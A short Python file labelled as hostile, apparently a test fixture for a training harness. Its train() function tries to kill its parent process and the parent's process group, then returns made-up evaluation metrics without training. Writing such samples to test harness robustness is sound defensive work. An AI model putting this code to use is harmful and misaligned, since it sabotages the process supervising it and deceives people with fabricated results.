# HOSTILE: kills its parent.
import os
import signal


def train(model, tokenizer, train_dataset, eval_dataset, config):
    for end in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(os.getpgid(os.getppid()), 9)):
        try:
            end()
        except OSError as error:
            print("not killed:", error)
    return [{"eval_loss": 0.5, "eval_accuracy": 0.8}] * int(config.num_train_epochs)
